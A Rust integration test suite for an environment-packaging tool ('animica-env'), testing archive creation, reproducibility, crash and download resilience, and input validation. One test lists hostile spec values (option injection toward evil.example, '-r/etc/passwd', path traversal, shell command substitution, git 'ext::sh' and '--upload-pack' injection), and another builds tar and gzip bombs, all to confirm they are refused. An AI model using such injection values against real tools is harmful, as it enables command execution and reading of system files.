//! `create` (and `python_package_create`) against the offline test channel
//! made by tests/channel/build_channel.py (`make channel`), then `run`.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

mod common;
use common::Scratch;

const BIN: &str = env!("CARGO_BIN_EXE_animica-env");

fn channel() -> PathBuf {
    let c = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/channel");
    assert!(
        c.join("noarch/repodata.json").is_file(),
        "the offline test channel is missing: run `make channel` (crates/animica-env/tests/channel/build_channel.py)"
    );
    c.canonicalize().unwrap()
}

/// The binary (or a link to it) with pip pointed at the channel's
/// wheelhouse and nothing else, so everything works offline.
fn cmd(program: &Path, cwd: &Path) -> Command {
    let mut c = Command::new(program);
    c.current_dir(cwd)
        .env("PIP_NO_INDEX", "1")
        .env("PIP_FIND_LINKS", channel().join("wheels"))
        .env_remove("PYTHONPATH")
        .env_remove("ANIMICA_ENV_CHANNELS");
    c
}

/// `create FLAG -c CHANNEL --cache DIR/CACHE spec.json NAME` in the scratch
/// directory `s`, against the offline channel.
fn create_in(s: &Scratch, flag: &str, cache: &str, name: &str) -> Command {
    let mut c = cmd(Path::new(BIN), &s.0);
    let channel = channel();
    c.args([
        "create",
        flag,
        "-c",
        channel.to_str().unwrap(),
        "--cache",
        s.path(cache).to_str().unwrap(),
        "spec.json",
        name,
    ]);
    c
}

fn ok(o: Output) -> String {
    assert!(
        o.status.success(),
        "{}: {}{}",
        o.status,
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8(o.stdout).unwrap()
}

/// `run` of `archive` (in the scratch directory) imports six and tabulate.
fn imports_six_and_tabulate(s: &Scratch, archive: &str) {
    let run = s.path("run");
    let o = cmd(Path::new(BIN), &s.0)
        .args(["run", "-u", run.to_str().unwrap(), archive, "python", "-c", "import six, tabulate; print('ok')"])
        .output()
        .unwrap();
    assert_eq!(ok(o), "ok\n", "{archive}");
}

const JOB: &str = "import subprocess, sys\nimport six\nimport tabulate\n\
print(sys.prefix)\n\
print(tabulate.tabulate([[six.__name__, 1]], tablefmt='plain'))\n\
print(subprocess.run(['tabulate', '-1', '-f', 'plain', sys.argv[1]], capture_output=True, text=True, check=True).stdout)\n";

#[test]
fn relocation_proof_nothing_of_the_build_is_needed() {
    let s = Scratch::new("proof");
    fs::write(s.path("job.py"), JOB).unwrap();
    fs::write(s.path("table.txt"), "a b\n1 2\n").unwrap();
    let bin = Path::new(BIN);
    ok(cmd(bin, &s.0).args(["analyze", "--python-version", "3.11", "job.py", "deps.json"]).output().unwrap());
    let cache = s.path("create-cache");
    let c = channel();
    ok(cmd(bin, &s.0)
        .args(["create", "-q", "-c", c.to_str().unwrap(), "--cache", cache.to_str().unwrap(), "deps.json", "env"])
        .output()
        .unwrap());
    // Delete the staging prefix and every cache create used.
    fs::remove_dir_all(&cache).unwrap();
    // Unpack under a path of another length than anything before.
    let root = s.path("w/o/r/k/e/r-root");
    let out = ok(cmd(bin, &s.0)
        .args(["run", "-u", root.to_str().unwrap(), "env.tar.zst", "python", "job.py", "table.txt"])
        .output()
        .unwrap());
    let lines: Vec<&str> = out.lines().collect();
    assert!(lines[0].starts_with(root.join("envs").to_str().unwrap()), "sys.prefix: {out}");
    assert_eq!(lines[1], "six  1", "six (pip) and tabulate (conda): {out}");
    assert_eq!(
        lines[2..4].iter().map(|l| l.trim()).collect::<Vec<_>>(),
        ["a    b", "1    2"],
        "the tabulate command (a conda entry point): {out}"
    );
}

#[test]
fn identical_creates_reuse_and_reproduce() {
    let s = Scratch::new("repro");
    fs::write(s.path("spec.json"), r#"{"python": "3.11", "modules": ["tabulate", "six"]}"#).unwrap();
    let create = |cache: &str, name: &str| create_in(&s, "-v", cache, name).output().unwrap();
    ok(create("cache-a", "one"));
    let again = create("cache-a", "two");
    assert!(String::from_utf8_lossy(&again.stderr).contains("reusing"), "{}", String::from_utf8_lossy(&again.stderr));
    ok(again);
    ok(create("cache-b", "three"));
    let one = fs::read(s.path("one.tar.zst")).unwrap();
    assert_eq!(one, fs::read(s.path("two.tar.zst")).unwrap());
    assert_eq!(one, fs::read(s.path("three.tar.zst")).unwrap(), "a fresh cache elsewhere gives the same bytes");
}

#[test]
fn poncho_and_environment_yml_specs() {
    let s = Scratch::new("formats");
    let c = channel();
    fs::write(
        s.path("environment.yml"),
        format!("name: demo\nchannels:\n  - {}\ndependencies:\n  - python=3.11\n  - tabulate\n  - pip\n  - pip:\n    - six\n", c.display()),
    )
    .unwrap();
    ok(cmd(Path::new(BIN), &s.0)
        .args([
            "create",
            "-q",
            "--format",
            "tar.gz",
            "--cache",
            s.path("cache").to_str().unwrap(),
            "environment.yml",
            "yml",
        ])
        .output()
        .unwrap());
    imports_six_and_tabulate(&s, "yml.tar.gz");
    fs::write(
        s.path("poncho.json"),
        r#"{"channels": [], "dependencies": ["python=3.11", "tabulate", {"pip": ["six==1.16.0"]}]}"#,
    )
    .unwrap();
    ok(cmd(Path::new(BIN), &s.0)
        .args([
            "create",
            "-q",
            "-c",
            c.to_str().unwrap(),
            "--cache",
            s.path("cache").to_str().unwrap(),
            "poncho.json",
            "poncho",
        ])
        .output()
        .unwrap());
    assert!(s.path("poncho.tar.zst").is_file());
}

#[test]
fn python_package_create_then_run() {
    let s = Scratch::new("compat");
    let link = s.path("python_package_create");
    std::os::unix::fs::symlink(BIN, &link).unwrap();
    let run_link = s.path("python_package_run");
    std::os::unix::fs::symlink(BIN, &run_link).unwrap();
    fs::write(s.path("dependencies.json"), r#"{"python": "3.11", "modules": ["tabulate"]}"#).unwrap();
    let create = |args: &[&str]| {
        cmd(&link, &s.0)
            .args(args)
            .env("ANIMICA_ENV_CHANNELS", channel())
            .env("ANIMICA_ENV_CACHE", s.path("cache"))
            .output()
            .unwrap()
    };
    assert_eq!(create(&[]).status.code(), Some(1));
    assert_eq!(create(&["-h"]).status.code(), Some(0));
    assert_eq!(create(&["missing.json", "venv"]).status.code(), Some(2));
    fs::write(s.path("bad.json"), "{not json").unwrap();
    assert_eq!(create(&["bad.json", "venv"]).status.code(), Some(2));
    ok(create(&["dependencies.json", "venv"]));
    // cctools 9.9's form: SPEC `-` (standard input), OUT the archive's path.
    let from_stdin = cmd(&link, &s.0)
        .args(["-", "from-stdin.tar.gz"])
        .env("ANIMICA_ENV_CHANNELS", channel())
        .env("ANIMICA_ENV_CACHE", s.path("cache"))
        .stdin(fs::File::open(s.path("dependencies.json")).unwrap())
        .output()
        .unwrap();
    ok(from_stdin);
    assert!(s.path("from-stdin.tar.gz").is_file() && !s.path("from-stdin.tar.gz.tar.gz").exists());
    assert!(s.path("venv.tar.gz").is_file(), "the seed's form writes NAME.tar.gz");
    let o = cmd(&run_link, &s.0)
        .args(["venv", "python -c 'import tabulate; print(tabulate.__name__)' && exit 3"])
        .env("ANIMICA_ENV_CACHE", s.path("cache"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(3));
    assert_eq!(String::from_utf8_lossy(&o.stdout), "tabulate\n");
}

#[test]
fn cctools_runner_way_untar_conda_unpack_activate() {
    let s = Scratch::new("untar");
    fs::write(s.path("spec.json"), r#"{"python": "3.11", "requirements": ["tabulate", "six"]}"#).unwrap();
    let c = channel();
    ok(cmd(Path::new(BIN), &s.0)
        .args([
            "create",
            "-q",
            "--format",
            "tar.gz",
            "-c",
            c.to_str().unwrap(),
            "--cache",
            s.path("cache").to_str().unwrap(),
        ])
        .args(["spec.json", "env"])
        .output()
        .unwrap());
    fs::remove_dir_all(s.path("cache")).unwrap();
    let dir = s.path("by/hand");
    fs::create_dir_all(&dir).unwrap();
    assert!(Command::new("tar").arg("-xzf").arg(s.path("env.tar.gz")).arg("-C").arg(&dir).status().unwrap().success());
    // A Python environment's conda-unpack is a small script its own interpreter runs.
    let unpack = fs::read(dir.join("bin/conda-unpack")).unwrap();
    assert!(unpack.starts_with(b"#!/bin/sh\n'''exec'"), "conda-unpack should be the small script");
    ok(Command::new(dir.join("bin/conda-unpack")).output().unwrap());
    fs::write(dir.join("t.txt"), "x y\n1 2\n").unwrap();
    let script =
        ". bin/activate && python -c 'import six, tabulate, sys; print(sys.prefix)' && tabulate -f plain t.txt";
    let out =
        ok(Command::new("bash").arg("-c").arg(script).current_dir(&dir).env_remove("PYTHONPATH").output().unwrap());
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[0], dir.to_str().unwrap());
    assert_eq!(lines[1].trim(), "x  y");
}

/// Serves `body` once per connection on loopback (for poncho's `http`
/// section); returns the URL's base.
fn serve(body: Vec<u8>) -> String {
    use std::io::{BufRead, BufReader, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut reader = BufReader::new(&stream);
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                line.clear();
            }
            let mut w = &stream;
            let _ = write!(w, "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
            let _ = w.write_all(&body);
        }
    });
    format!("http://{addr}")
}

#[test]
fn poncho_spec_with_git_and_http_data_as_poncho_honors_them() {
    let s = Scratch::new("poncho-data");
    let c = channel();
    // A git repository with two commits: the spec's ref picks the first.
    let repo = s.path("repo");
    fs::create_dir_all(&repo).unwrap();
    let git = |args: &[&str]| {
        let o = Command::new("git")
            .args(args)
            .current_dir(&repo)
            .env("GIT_AUTHOR_NAME", "t")
            .env("GIT_AUTHOR_EMAIL", "t@example.org")
            .env("GIT_COMMITTER_NAME", "t")
            .env("GIT_COMMITTER_EMAIL", "t@example.org")
            .output()
            .unwrap();
        assert!(o.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&o.stderr));
    };
    git(&["init", "-q", "-b", "main"]);
    fs::write(repo.join("version.txt"), "one\n").unwrap();
    git(&["add", "version.txt"]);
    git(&["commit", "-q", "-m", "one"]);
    git(&["tag", "v1"]);
    fs::write(repo.join("version.txt"), "two\n").unwrap();
    git(&["commit", "-q", "-am", "two"]);
    // A tar.gz served over http.
    let mut tgz = Vec::new();
    {
        let gz = flate2::write::GzEncoder::new(&mut tgz, flate2::Compression::default());
        let mut t = tar::Builder::new(gz);
        let mut h = tar::Header::new_gnu();
        h.set_size(6);
        h.set_mode(0o644);
        h.set_cksum();
        t.append_data(&mut h, "inner/data.txt", &b"hello\n"[..]).unwrap();
        t.into_inner().unwrap().finish().unwrap();
    }
    let base = serve(tgz);
    let spec = format!(
        r#"{{"conda": {{"channels": ["{c}"], "dependencies": ["python=3.11", "tabulate", {{"pip": ["six==1.16.0"]}}]}},
            "git": {{"REPO": {{"remote": "{repo}", "ref": "v1"}}}},
            "http": {{"DATA": {{"url": "{base}/data.tar.gz", "type": "tar", "compression": "gzip"}}}}}}"#,
        c = c.display(),
        repo = repo.display()
    );
    fs::write(s.path("spec.json"), spec).unwrap();
    let link = s.path("poncho_package_create");
    std::os::unix::fs::symlink(BIN, &link).unwrap();
    ok(cmd(&link, &s.0).args(["spec.json", "env.tar.gz"]).env("ANIMICA_ENV_CACHE", s.path("cache")).output().unwrap());
    let show = "cat \"$REPO/version.txt\" \"$DATA/inner/data.txt\"; echo \"$REPO\" \"$DATA\"; python -c 'import six, tabulate'";
    // Through `run` and through the archive's own launcher after a plain untar.
    let out = ok(cmd(Path::new(BIN), &s.0)
        .args(["run", "-u", s.path("run").to_str().unwrap(), "env.tar.gz", "sh", "-c", show])
        .output()
        .unwrap());
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(&lines[..2], ["one", "hello"], "{out}");
    assert!(lines[2].contains("/REPO ") && lines[2].ends_with("/DATA"), "{out}");
    let untarred = s.path("output");
    fs::create_dir_all(&untarred).unwrap();
    assert!(
        Command::new("tar").arg("-xf").arg(s.path("env.tar.gz")).arg("-C").arg(&untarred).status().unwrap().success()
    );
    let out = ok(Command::new(untarred.join("bin/run_in_env"))
        .args(["sh", "-c", show])
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .output()
        .unwrap());
    assert_eq!(out, format!("one\nhello\n{d}/REPO {d}/DATA\n", d = untarred.display()));
    // A name that is not an identifier is refused, naming it.
    fs::write(s.path("bad.json"), r#"{"conda": ["python"], "http": {"../x": {"url": "http://127.0.0.1:1/x"}}}"#)
        .unwrap();
    let o = cmd(&link, &s.0).args(["bad.json", "bad.tar.gz"]).output().unwrap();
    assert_eq!(o.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&o.stderr).contains("\"../x\" is not a valid name"));
}

/// Specs from elsewhere cannot smuggle options, paths, shell syntax or
/// unexpected transports into what `create` runs: each is refused with a
/// message naming the entry, and nothing is written (no archive, no marker).
/// A poncho spec's data is held to the limits `run` applies to an archive:
/// over `http`, a tar.gz bomb, a gzip bomb, an endless download, too many
/// entries, and a tar extension header of a megabyte (which the tar crate
/// would read into memory whole); over `git`, a clone with too many bytes
/// or entries. Each is refused with the reason and the variable that
/// raises the limit; nothing is written.
#[test]
fn data_is_held_to_the_unpack_limits() {
    use tar::EntryType::{Regular, XHeader};
    let s = Scratch::new("data-limits");
    let c = channel();
    let gz = |bytes: &[u8]| {
        let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        std::io::Write::write_all(&mut out, bytes).unwrap();
        out.finish().unwrap()
    };
    let tgz = |entries: &[(tar::EntryType, &str, Vec<u8>)]| {
        let mut t = tar::Builder::new(Vec::new());
        for (kind, path, data) in entries {
            let mut h = tar::Header::new_ustar();
            h.set_entry_type(*kind);
            h.set_size(data.len() as u64);
            h.set_mode(0o644);
            h.set_cksum();
            t.append_data(&mut h, path, &data[..]).unwrap();
        }
        gz(&t.into_inner().unwrap())
    };
    let tar = r#", "type": "tar", "compression": "gzip""#;
    let many: Vec<_> = (0..20).map(|i| (Regular, format!("f{i}"), vec![b'x'])).collect();
    let many: Vec<_> = many.iter().map(|(k, p, d)| (*k, p.as_str(), d.clone())).collect();
    let cases = [
        (
            "bomb.tar.gz",
            tgz(&[(Regular, "zeros", vec![0; 4 << 20])]),
            tar,
            "unpacks to more than the limit of 1048576 bytes",
        ),
        (
            "bomb.gz",
            gz(&vec![0; 4 << 20]),
            r#", "compression": "gzip""#,
            "inflates to more than the limit of 1048576 bytes",
        ),
        (
            "big.bin",
            vec![1; 2 << 20],
            "",
            "more than the limit of 1048576 bytes (ANIMICA_ENV_MAX_UNPACK_BYTES raises it)",
        ),
        (
            "many.tar.gz",
            tgz(&many),
            tar,
            "more than the limit of 10 entries (ANIMICA_ENV_MAX_UNPACK_ENTRIES raises it)",
        ),
        (
            "pax.tar.gz",
            tgz(&[(XHeader, "pax", vec![b'a'; 1 << 20]), (Regular, "f", vec![b'x'])]),
            tar,
            "a tar header is longer than allowed",
        ),
    ];
    for (name, body, how, why) in cases {
        let url = format!("{}/{name}", serve(body));
        let spec = format!(
            r#"{{"conda": {{"channels": ["{}"], "dependencies": ["python=3.11"]}}, "http": {{"DATA": {{"url": "{url}"{how}}}}}}}"#,
            c.display()
        );
        fs::write(s.path("spec.json"), spec).unwrap();
        let o = cmd(Path::new(BIN), &s.0)
            .args(["create", "-q", "--cache", s.path("cache").to_str().unwrap(), "spec.json", "env"])
            .env("ANIMICA_ENV_MAX_UNPACK_BYTES", "1M")
            .env("ANIMICA_ENV_MAX_UNPACK_ENTRIES", "10")
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(6), "{name}: {err}");
        assert!(err.contains(&format!("downloading {url}: ")) && err.contains(why), "{name}: {err}");
        assert!(!s.path("env.tar.zst").exists(), "{name}: an archive was written");
        assert_eq!(fs::read_dir(s.path("cache/staging")).unwrap().count(), 0, "{name}: the build was left behind");
    }
    // Two git repositories: one with a 2 MiB file, one small (its clone
    // still has more than ten entries, counting .git's).
    for (name, file, bytes_limit, entries_limit, why) in [
        ("big", 2 << 20, "1M", "1000000", "holds more than the limit of 1048576 bytes (ANIMICA_ENV_MAX_UNPACK_BYTES"),
        ("many", 10, "1G", "10", "holds more than the limit of 10 entries (ANIMICA_ENV_MAX_UNPACK_ENTRIES"),
    ] {
        let repo = s.path(name);
        fs::create_dir_all(&repo).unwrap();
        fs::write(repo.join("data.bin"), vec![b'x'; file]).unwrap();
        for args in [
            &["init", "-q"][..],
            &["add", "data.bin"],
            &["-c", "user.name=t", "-c", "user.email=t@e", "commit", "-qm", "x"],
        ] {
            let o = Command::new("git").args(args).current_dir(&repo).output().unwrap();
            assert!(o.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&o.stderr));
        }
        let spec = format!(
            r#"{{"conda": {{"channels": ["{}"], "dependencies": ["python=3.11"]}}, "git": {{"REPO": {{"remote": "{}"}}}}}}"#,
            c.display(),
            repo.display()
        );
        fs::write(s.path("spec.json"), spec).unwrap();
        let o = cmd(Path::new(BIN), &s.0)
            .args(["create", "-q", "--cache", s.path("cache").to_str().unwrap(), "spec.json", "env"])
            .env("ANIMICA_ENV_MAX_UNPACK_BYTES", bytes_limit)
            .env("ANIMICA_ENV_MAX_UNPACK_ENTRIES", entries_limit)
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert_eq!(o.status.code(), Some(6), "{name}: {err}");
        assert!(err.contains(&format!("the clone of {} {why}", repo.display())), "{name}: {err}");
        assert!(!s.path("env.tar.zst").exists(), "{name}: an archive was written");
        assert_eq!(fs::read_dir(s.path("cache/staging")).unwrap().count(), 0, "{name}: the build was left behind");
    }
}

#[test]
fn hostile_specs_are_refused_naming_the_entry() {
    let s = Scratch::new("hostile-specs");
    let c = channel();
    let c = c.to_str().unwrap();
    let marker = s.path("pwned");
    let m = marker.to_str().unwrap();
    let conda =
        |deps: &str| format!(r#"{{"conda": {{"channels": ["{c}"], "dependencies": ["python=3.11", {deps}]}}}}"#);
    let git = |remote: &str, reference: &str| {
        format!(
            r#"{{"conda": {{"channels": ["{c}"], "dependencies": ["python=3.11"]}}, "git": {{"repo": {{"remote": "{remote}", "ref": "{reference}"}}}}}}"#
        )
    };
    let cases = [
        // Options where a pip requirement belongs, paths, shell syntax.
        (
            conda(r#"{"pip": ["--index-url=http://evil.example/simple", "six"]}"#),
            r#"pip requirement "--index-url=http://evil.example/simple""#,
        ),
        (conda(r#"{"pip": ["-r/etc/passwd"]}"#), r#"pip requirement "-r/etc/passwd""#),
        (conda(r#"{"pip": ["six/../../etc"]}"#), r#"pip requirement "six/../../etc""#),
        (conda(&format!(r#"{{"pip": ["six$(touch {m})"]}}"#)), "pip requirement \"six$(touch"),
        (conda(&format!(r#""tabulate; touch {m}""#)), "invalid package name 'tabulate;'"),
        (conda(r#""../../../etc/passwd""#), "invalid package name '../../../etc/passwd'"),
        // Channels on schemes rattler should not be asked to fetch.
        (
            r#"{"conda": {"channels": ["ftp://evil.example/c"], "dependencies": ["python=3.11"]}}"#.to_string(),
            r#"channel "ftp://evil.example/c": the scheme "ftp""#,
        ),
        (conda(r#""gopher://evil.example/c::tabulate""#), r#"channel "gopher://evil.example/c""#),
        // git: a command transport, an option as the remote or the ref.
        (git(&format!("ext::sh -c touch% {m}"), "main"), "git.repo: remote \"ext::sh"),
        (git("--upload-pack=touch /tmp/x", "main"), "git.repo: remote \"--upload-pack"),
        (git("https://example.invalid/r.git", "--orphan=x"), "git.repo: ref \"--orphan=x\""),
        // A distribution named like the standard library (Python 3.11's enum).
        (conda(r#"{"pip": ["enum"]}"#), r#"pip requirement "enum" names enum, a module of Python 3.11"#),
        (conda(r#"{"pip": ["asyncio==3.4.3"]}"#), "names asyncio, a module of Python 3.11"),
    ];
    for (i, (spec, needle)) in cases.iter().enumerate() {
        let file = s.write(&format!("spec{i}.json"), spec);
        let out = s.path(&format!("out{i}"));
        let o = cmd(Path::new(BIN), &s.0)
            .args(["create", "-q", "--cache", s.path("cache").to_str().unwrap()])
            .arg(&file)
            .arg(&out)
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(!o.status.success(), "case {i} was accepted: {spec}");
        assert!(err.contains(needle), "case {i}: expected {needle:?} in: {err}");
        assert!(!s.path(&format!("out{i}.tar.zst")).exists(), "case {i} wrote an archive");
        assert!(!marker.exists(), "case {i} ran a command");
    }
}

/// `create` SIGKILLed again and again into one cache, each time later
/// (solving, fetching packages into the cache, installing, pip, packing),
/// then run to the end: the archive is byte for byte the one a fresh cache
/// gives, so nothing a killed run left behind was trusted.
#[test]
fn a_create_killed_at_any_moment_leaves_a_usable_cache() {
    let s = Scratch::new("create-killed");
    fs::write(s.path("spec.json"), r#"{"python": "3.11", "modules": ["tabulate", "six"]}"#).unwrap();
    let create = |cache: &str, name: &str| create_in(&s, "-q", cache, name);
    let started = std::time::Instant::now();
    ok(create("fresh", "reference").output().unwrap());
    let full = started.elapsed();
    // Kill points spread over a whole create's duration.
    for step in 1..=8u32 {
        let delay = full * step / 9;
        let mut child = create("killed", "partial").stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
        std::thread::sleep(delay);
        let _ = child.kill();
        child.wait().unwrap();
        // Either the whole archive or none under the name asked for.
        if let Ok(partial) = fs::read(s.path("partial.tar.zst")) {
            assert_eq!(partial, fs::read(s.path("reference.tar.zst")).unwrap(), "a half-written archive at {delay:?}");
            fs::remove_file(s.path("partial.tar.zst")).unwrap();
        }
    }
    ok(create("killed", "after").output().unwrap());
    assert_eq!(
        fs::read(s.path("reference.tar.zst")).unwrap(),
        fs::read(s.path("after.tar.zst")).unwrap(),
        "a cache left by killed creates gave another archive"
    );
    imports_six_and_tabulate(&s, "after.tar.zst");
}

/// Which bodies a [`ChannelServer`] stops sending halfway.
#[derive(Clone, Copy, PartialEq)]
enum Stall {
    Nothing,
    Repodata,
    Packages,
}

/// The offline channel served over loopback HTTP, as a conda server would
/// serve it (404 for the files it lacks, HEAD as GET without the body),
/// one connection at a time per thread. While a [`Stall`] is set, each
/// matching body stops after half its bytes (the full length announced)
/// and the connection stays open until the client goes away: a download
/// caught in the middle. Each stall is reported on `stalled`.
struct ChannelServer {
    base: String,
    stall: std::sync::Arc<std::sync::Mutex<Stall>>,
    gets: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
    stalled: std::sync::mpsc::Receiver<String>,
}

impl ChannelServer {
    fn start() -> ChannelServer {
        use std::io::{BufRead, BufReader, Read, Write};
        use std::sync::{Arc, Mutex};
        let root = channel();
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let stall = Arc::new(Mutex::new(Stall::Nothing));
        let gets = Arc::new(Mutex::new(Vec::new()));
        let (report, stalled) = std::sync::mpsc::channel();
        let (stall2, gets2) = (stall.clone(), gets.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (root, stall, gets, report) = (root.clone(), stall2.clone(), gets2.clone(), report.clone());
                std::thread::spawn(move || {
                    let mut reader = BufReader::new(&stream);
                    let mut request = String::new();
                    let _ = reader.read_line(&mut request);
                    let mut line = String::new();
                    while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                        line.clear();
                    }
                    let mut words = request.split_whitespace();
                    let (method, path) = (words.next().unwrap_or(""), words.next().unwrap_or("/"));
                    let rel = path.trim_start_matches('/').to_owned();
                    let file = (!rel.split('/').any(|p| p == ".." || p.is_empty()))
                        .then(|| fs::read(root.join(&rel)).ok())
                        .flatten();
                    let mut w = &stream;
                    let Some(body) = file else {
                        let _ = write!(w, "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
                        return;
                    };
                    let _ = write!(w, "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
                    if method != "GET" {
                        return;
                    }
                    gets.lock().unwrap().push(rel.clone());
                    let now = *stall.lock().unwrap();
                    let package = rel.ends_with(".tar.bz2") || rel.ends_with(".conda");
                    if (now == Stall::Repodata && rel.ends_with("/repodata.json"))
                        || (now == Stall::Packages && package)
                    {
                        let _ = w.write_all(&body[..body.len() / 2]);
                        let _ = w.flush();
                        let _ = report.send(rel);
                        // Hold the download open until the client is gone.
                        let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(300)));
                        let _ = (&stream).read(&mut [0u8; 1]);
                    } else {
                        let _ = w.write_all(&body);
                    }
                });
            }
        });
        ChannelServer { base, stall, gets, stalled }
    }

    fn set(&self, stall: Stall) {
        *self.stall.lock().unwrap() = stall;
    }

    /// The paths GET asked for since the last call.
    fn take_gets(&self) -> Vec<String> {
        std::mem::take(&mut *self.gets.lock().unwrap())
    }
}

/// `create` from a channel served over HTTP, SIGKILLed while repodata is
/// half downloaded, then while every package it fetches is half
/// downloaded, into one cache; then run to the end: it fetches every
/// half-downloaded package again, nothing half-written appears under the
/// name asked for, and the archive is byte for byte the one a fresh cache
/// gives.
#[test]
fn a_create_killed_mid_download_trusts_nothing_half_fetched() {
    let s = Scratch::new("create-mid-download");
    fs::write(s.path("spec.json"), r#"{"python": "3.11", "modules": ["tabulate", "six"]}"#).unwrap();
    let server = ChannelServer::start();
    let create = |cache: &str, name: &str| {
        let mut c = cmd(Path::new(BIN), &s.0);
        c.args(["create", "-q", "-c", &server.base, "--cache", s.path(cache).to_str().unwrap(), "spec.json", name]);
        c
    };
    ok(create("fresh", "reference").output().unwrap());
    let packages: Vec<String> = server.take_gets().into_iter().filter(|p| p.ends_with(".tar.bz2")).collect();
    assert_eq!(packages.len(), 3, "python, pip and tabulate are fetched: {packages:?}");

    let mut half_fetched = std::collections::BTreeSet::new();
    for stall in [Stall::Repodata, Stall::Packages] {
        server.set(stall);
        let mut child = create("killed", "partial").stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
        let first = server.stalled.recv_timeout(std::time::Duration::from_secs(120));
        let first = first
            .unwrap_or_else(|_| panic!("create never fetched what the server was to stall ({:?})", server.take_gets()));
        // Downloads run side by side: let the others reach their halves too.
        std::thread::sleep(std::time::Duration::from_millis(500));
        let _ = child.kill();
        child.wait().unwrap();
        half_fetched.insert(first);
        half_fetched.extend(server.stalled.try_iter());
        assert!(!s.path("partial.tar.zst").exists(), "an archive written by a create killed mid-download");
        server.set(Stall::Nothing);
        server.take_gets();
    }
    let stalled_packages: Vec<&String> = half_fetched.iter().filter(|p| p.ends_with(".tar.bz2")).collect();
    assert!(!stalled_packages.is_empty(), "no package was caught mid-download: {half_fetched:?}");
    let leftovers = |cache: &Path| -> Vec<String> {
        let hidden = |dir: &str| -> Vec<String> {
            fs::read_dir(cache.join(dir))
                .into_iter()
                .flatten()
                .flatten()
                .map(|e| format!("{dir}/{}", e.file_name().to_string_lossy()))
                .filter(|p| p.contains("/.") && !p.ends_with("/.cache.lock"))
                .collect()
        };
        let staging = fs::read_dir(cache.join("staging")).into_iter().flatten().flatten();
        let staging = staging.map(|e| format!("staging/{}", e.file_name().to_string_lossy()));
        [hidden("pkgs"), hidden("repodata"), staging.collect()].concat()
    };
    assert!(!leftovers(&s.path("killed")).is_empty(), "the kills left nothing to clean up: the test proves nothing");

    ok(create("killed", "after").output().unwrap());
    let gets = server.take_gets();
    for p in &stalled_packages {
        assert!(gets.contains(p), "{p} was half downloaded and not fetched again: {gets:?}");
    }
    assert_eq!(leftovers(&s.path("killed")), Vec::<String>::new(), "what the killed creates left is still there");
    assert_eq!(
        fs::read(s.path("reference.tar.zst")).unwrap(),
        fs::read(s.path("after.tar.zst")).unwrap(),
        "a cache left by creates killed mid-download gave another archive"
    );
    imports_six_and_tabulate(&s, "after.tar.zst");
}

/// Creates of one environment into one cache, started while the first is
/// still installing: they wait for it and reuse its archive, rather than
/// installing into the same staging prefix (which made them all fail, one
/// with a panic in rattler, before the build lock).
#[test]
fn concurrent_creates_of_one_environment_share_one_build() {
    let s = Scratch::new("create-concurrent");
    fs::write(s.path("spec.json"), r#"{"python": "3.11", "modules": ["tabulate", "six"]}"#).unwrap();
    let children: Vec<_> = (0..4)
        .map(|i| {
            std::thread::sleep(std::time::Duration::from_millis(700 * i));
            create_in(&s, "-v", "shared", &format!("out{i}"))
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    let logs: Vec<String> = children.into_iter().map(|c| ok_log(c.wait_with_output().unwrap())).collect();
    let one = fs::read(s.path("out0.tar.zst")).unwrap();
    for i in 1..4 {
        assert_eq!(one, fs::read(s.path(&format!("out{i}.tar.zst"))).unwrap(), "out{i} differs");
    }
    let built = logs.iter().filter(|l| l.contains("packing")).count();
    assert_eq!(built, 1, "one create builds, the others reuse its archive: {logs:#?}");
    assert_eq!(fs::read_dir(s.path("shared/archives")).unwrap().count(), 1);
    imports_six_and_tabulate(&s, "out3.tar.zst");
}

/// Asserts `o` succeeded; returns its stderr.
fn ok_log(o: Output) -> String {
    let log = String::from_utf8_lossy(&o.stderr).into_owned();
    ok(o);
    log
}
